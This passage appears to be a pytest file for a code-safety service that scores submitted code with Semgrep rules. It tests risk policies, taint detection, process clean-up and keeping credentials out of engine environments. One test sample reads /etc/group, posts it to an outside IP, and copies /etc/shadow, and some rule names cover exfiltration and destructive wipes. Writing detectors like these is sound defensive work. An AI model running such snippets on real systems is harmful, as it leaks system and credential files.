    assert assessment.complexity["lines"] == 3 and assessment.complexity["loops"] == 1
    assert assessment.level is RiskLevel.LOW


def test_a_semgrep_rule_file_may_limit_its_own_level_to_provenances(policies_copy):
    _edit(policies_copy / "semgrep" / "destructive.yaml",
          "metadata: {level: BLOCKED, category: destructive_wipe, confidence: HIGH, cwe: \"CWE-1188\"}\n    pattern-either:\n      - patterns:",
          "metadata: {level: BLOCKED, category: destructive_wipe, confidence: HIGH, cwe: \"CWE-1188\", provenances: [mai],"
          " otherwise: MEDIUM}\n    pattern-either:\n      - patterns:")
    policy = load_analysis_policy(policies_copy).semgrep
    assert policy.level_for("destructive-rmtree-root", "ERROR", Provenance.MAI) is RiskLevel.BLOCKED
    assert policy.level_for("destructive-rmtree-root", "ERROR", Provenance.USER) is RiskLevel.MEDIUM


def test_otherwise_above_the_rules_level_is_refused(policies_copy):
    _edit(policies_copy / "analysis.yaml", "    weak-crypto: MEDIUM", "    weak-crypto: {level: MEDIUM, provenances: [mai], otherwise: HIGH}")
    with pytest.raises(ConfigurationError, match=r"key ast.rules.weak-crypto: `otherwise` \(HIGH\) must not be above `level` \(MEDIUM\)"):
        load_analysis_policy(policies_copy)


def test_the_warm_engine_runs_the_taint_rules_as_a_cold_run_does(analysis_policy, semgrep):
    taint_rules = {rule["id"] for rule in analysis_policy.semgrep.rule_documents if rule.get("mode") == "taint"}
    assert {"send-system-file", "exfiltrate-secret-file", "copy-sensitive-file", "download-into-startup-file"} <= taint_rules
    code = """
        import shutil, urllib.request
        body = open('/etc/group', 'rb').read()
        urllib.request.urlopen(urllib.request.Request('http://198.51.100.7/u', data=body))
        shutil.copy('/etc/shadow', 'copy.txt')
    """
    cold = SemgrepAnalyzer(analysis_policy.semgrep, warm=False)
    try:
        expected = {(f.rule_id, f.line) for f in cold.analyze(submit(code))}
    finally:
        cold.close()
    found = {(f.rule_id, f.line) for f in semgrep.analyze(submit(code))}
    assert semgrep.warm, semgrep.warm_disabled_reason
    assert found == expected
    assert {("send-system-file", 4), ("copy-sensitive-file", 5)} <= found


def test_semgrep_folders_left_by_killed_processes_are_removed_at_the_next_start(analysis_policy) -> None:  # type: ignore[no-untyped-def]
    import os
    import subprocess
    import sys
    import tempfile

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead = Path(tempfile.mkdtemp(prefix=f"mai-semgrep-{gone.stdout.strip()}-"))
    (dead / "code-copy.py").write_text("print('a copy of submitted code')\n")
    alive = Path(tempfile.mkdtemp(prefix=f"mai-semgrep-{os.getpid()}-"))
    try:
        analyzer = SemgrepAnalyzer(analysis_policy.semgrep, warm=False)
        analyzer.close()
        assert not dead.exists(), "a dead process's copy of the code was left"
        assert alive.exists(), "a live process's folder is not ours to remove"
        assert stat.S_IMODE(alive.stat().st_mode) == 0o700
    finally:
        shutil.rmtree(dead, ignore_errors=True)
        shutil.rmtree(alive, ignore_errors=True)


#: A process that builds a warm analyzer, as the service does, says its pid, then waits to be killed.
_HOLDER = """
import sys, time
from pathlib import Path
from mai_safety.infrastructure.analysis.policy import load_analysis_policy
from mai_safety.infrastructure.analysis.semgrep import SemgrepAnalyzer
analyzer = SemgrepAnalyzer(load_analysis_policy(Path(sys.argv[1])).semgrep, warm=True)
print("ready", flush=True)
time.sleep(600)
"""


def test_a_killed_process_s_waiting_engines_end_with_it_not_minutes_later() -> None:
    """A service killed with SIGKILL cannot clean up: its waiting engine (blocked opening the code's
    pipe, which no one will now open) must still end at once, not when its ``timeout`` wrapper gives
    up five minutes later (semgrep.SPARE_MAX_AGE_S), holding ~110 MiB meanwhile."""
    import subprocess

    with subprocess.Popen([sys.executable, "-c", _HOLDER, str(POLICIES)], stdout=subprocess.PIPE, text=True) as holder:
        try:
            assert holder.stdout is not None and holder.stdout.readline().strip() == "ready"
            waiting = _until_engines_wait_below(lambda: [holder.pid])
            wrappers = [process.pid for process in psutil.Process(holder.pid).children() if process.pid not in waiting]
            holder.kill()
            holder.wait(10)
            left = [pid for pid in waiting + wrappers if not ends(pid, timeout_s=10)]
            assert not left, f"engines outlived their killed owner: {left}"
        finally:
            if holder.poll() is None:
                holder.kill()
                holder.wait(10)


def test_semgrep_s_engines_are_not_given_the_ledger_s_credentials(analysis_policy, monkeypatch) -> None:
    """The engines parse code nobody trusts: neither the waiting engine nor a cold one holds our
    settings (the ledger's URL carries its password) or libpq's (child_environment.py)."""
    monkeypatch.setenv("MAI_SAFETY_DATABASE_URL", "postgresql://mai:s3cret@db:5432/ledger")
    monkeypatch.setenv("PGPASSWORD", "s3cret")
    analyzer = SemgrepAnalyzer(analysis_policy.semgrep, warm=True)
    try:
        engine = _waiting_for_code(analyzer)
        environment = Path(f"/proc/{engine}/environ").read_bytes()
        assert b"s3cret" not in environment and b"PATH=" in environment
    finally:
        analyzer.close()
    cold = SemgrepAnalyzer(analysis_policy.semgrep, warm=False)
    seen: list[bytes] = []
    try:
        code = "import time\n" + "x = 1\n" * 20000  # long enough to be caught scanning
        scan = threading.Thread(target=cold.analyze, args=(submit(code),))
        scan.start()
        deadline = time.monotonic() + 20
        while scan.is_alive() and time.monotonic() < deadline and not seen:
            for child in psutil.Process().children(recursive=True):
                try:
                    if str(cold._workdir) in " ".join(child.cmdline()):  # this analyzer's engine, no other
                        seen.append(Path(f"/proc/{child.pid}/environ").read_bytes())
                except (psutil.NoSuchProcess, FileNotFoundError, ProcessLookupError):
                    continue
            time.sleep(0.005)
        scan.join(30)
    finally:
        cold.close()
    assert seen, "the cold engine was not caught running"
    assert all(b"s3cret" not in environment for environment in seen)
